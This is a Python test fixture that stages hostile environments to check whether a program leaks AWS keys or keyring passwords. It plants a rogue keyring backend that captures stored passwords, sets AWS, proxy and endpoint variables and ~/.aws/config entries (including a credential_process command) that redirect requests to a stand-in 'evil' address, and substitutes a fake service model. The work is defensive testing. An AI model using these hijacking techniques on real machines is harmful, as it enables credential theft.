"""An environment that wants keys and requests elsewhere: what AWS's SDKs and keyring obey."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from pathlib import Path

from tests.leaks.stage import Stage

EVIL = """
import pathlib
from keyring.backend import KeyringBackend

pathlib.Path({mark!r}).touch()

class Keyring(KeyringBackend):
    priority = 100
    def set_password(self, service, username, password):
        pathlib.Path({mark!r}).write_text(password)
    def get_password(self, service, username):
        return None
"""
CARELESS = """
import os
import keyring

try:
    keyring.set_password("service", "user", "careless")
except Exception as error:
    print("keyring:", type(error).__name__)
import boto3

KEYS = {"aws_access_key_id": "AKIAIOSFODNN7EXAMPLE", "aws_secret_access_key": "careless"}
IN_THE_WAY = ("AWS_PROFILE", "AWS_DEFAULT_PROFILE", "AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE",
              "AWS_MAX_ATTEMPTS", "AWS_RETRY_MODE")
for name in ("", *IN_THE_WAY):
    os.environ.pop(name, None)
    try:
        client = boto3.client("connect", region_name="us-east-1", **KEYS)
        print("model:", client.meta.service_model.metadata["serviceFullName"])
        client.list_instances()
    except Exception as error:
        print("boto3:", type(error).__name__)
try:
    boto3.Session().get_credentials()
except Exception as error:
    print("credentials:", type(error).__name__)
"""
"""What a program does that takes everything as it is given: it walks into the trap, or falls over it."""


class Trap:
    """One hostile environment, set up on a stage.

    `mark` is a file that the planted module writes, `ran` one that a command of ~/.aws/config makes.
    """

    def __init__(self, stage: Stage, evil: str) -> None:
        """`evil` is an address that nothing should ever ask."""
        self.stage = stage
        self.evil = evil
        self.mark, self.ran = stage.home / "taken.txt", stage.home / "ran.txt"
        self.planted = stage.home / "planted"
        self._plant()

    def _plant(self) -> None:
        information = self.planted / "evil-1.0.dist-info"
        information.mkdir(parents=True)
        (self.planted / "evil.py").write_text(EVIL.format(mark=str(self.mark)))
        (information / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        (information / "entry_points.txt").write_text("[keyring.backends]\nevil = evil\n")

    def by_variables(self) -> None:
        """AWS_* of somebody else's, and a backend for keyring."""
        broken = self.stage.put("broken-config", "[profile x\nregion=\x00\n=\n[[")
        self.stage.environment |= {
            "AWS_PROFILE": "nope",
            "AWS_DEFAULT_PROFILE": "nope",
            "AWS_CONFIG_FILE": str(broken),
            "AWS_SHARED_CREDENTIALS_FILE": str(broken),
            **self._of_somebody_else(),
            "AWS_MAX_ATTEMPTS": "nonsense",
            "AWS_RETRY_MODE": "nonsense",
            "AWS_USE_FIPS_ENDPOINT": "true",
            "AWS_USE_DUALSTACK_ENDPOINT": "true",
            "AWS_DATA_PATH": str(self._models()),
            "PYTHON_KEYRING_BACKEND": "evil.Keyring",
            "KEYRING_PROPERTY_PREFERRED_COLLECTION": "/org/freedesktop/secrets/collection/session",
            "PYTHONPATH": f"{self.stage.environment['PYTHONPATH']}:{self.planted}",
        }

    def _of_somebody_else(self) -> Mapping[str, str]:
        return {
            "AWS_ACCESS_KEY_ID": "AKIASOMEBODYELSE0001",
            "AWS_SECRET_ACCESS_KEY": "somebody/else/secret/of/AWS/length/EXAMPLE",
            "AWS_SESSION_TOKEN": "somebodyElsesToken",
            "AWS_REGION": "eu-west-2",
            "AWS_DEFAULT_REGION": "eu-west-2",
            "AWS_BEARER_TOKEN_CONNECT": "somebodyElsesBearer",
            "AWS_CONTAINER_CREDENTIALS_FULL_URI": f"{self.evil}/container",
            "AWS_EC2_METADATA_SERVICE_ENDPOINT": f"{self.evil}/metadata",
            **{
                f"AWS_ENDPOINT_URL{service}": f"{self.evil}/evil"
                for service in ("", "_CONNECT", "_STS", "_SSO", "_SSO_OIDC")
            },
            **{name: self.evil for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY")},
        }

    def by_files(self) -> None:
        """~/.aws that leads elsewhere, a service model in place of AWS's, and keyring's configuration."""
        self.stage.put(
            ".aws/config",
            f"[default]\nregion = eu-west-2\nendpoint_url = {self.evil}/evil\nservices = here\n"
            f"ca_bundle = {self.stage.home}/none.pem\ncredential_process = touch {self.ran}\n"
            f"[services here]\nconnect =\n  endpoint_url = {self.evil}/connect\n"
            f"sts =\n  endpoint_url = {self.evil}/sts\n",
        )
        boto = (
            "[Credentials]\naws_access_key_id = AKIASOMEBODYELSE0002\naws_secret_access_key = somebodyElse\n"
        )
        self.stage.put(".boto", f"{boto}[Boto]\nproxy = 127.0.0.1\n")
        self._models(".aws/models")
        settings = f"[backend]\ndefault-keyring=evil.Keyring\nkeyring-path={self.planted}\n"
        for folder in (".config", ".local/share"):
            self.stage.put(f"{folder}/python_keyring/keyringrc.cfg", settings)

    def _models(self, folder: str = "models") -> Path:
        """A model of Amazon Connect that is not AWS's."""
        model = {
            "version": "2.0",
            "metadata": {
                "apiVersion": "2017-08-08",
                "endpointPrefix": "connect",
                "protocol": "rest-json",
                "protocols": ["rest-json"],
                "serviceFullName": "Evil",
                "serviceId": "Connect",
                "signatureVersion": "v4",
                "signingName": "connect",
                "uid": "connect-2017-08-08",
            },
            "operations": {
                "ListInstances": {"name": "ListInstances", "http": {"method": "GET", "requestUri": "/evil"}}
            },
            "shapes": {},
        }
        file = self.stage.put(f"{folder}/connect/2017-08-08/service-2.json", json.dumps(model))
        return file.parent.parent.parent


TRAPS: Mapping[str, Callable[[Trap], None]] = {"variables": Trap.by_variables, "files": Trap.by_files}
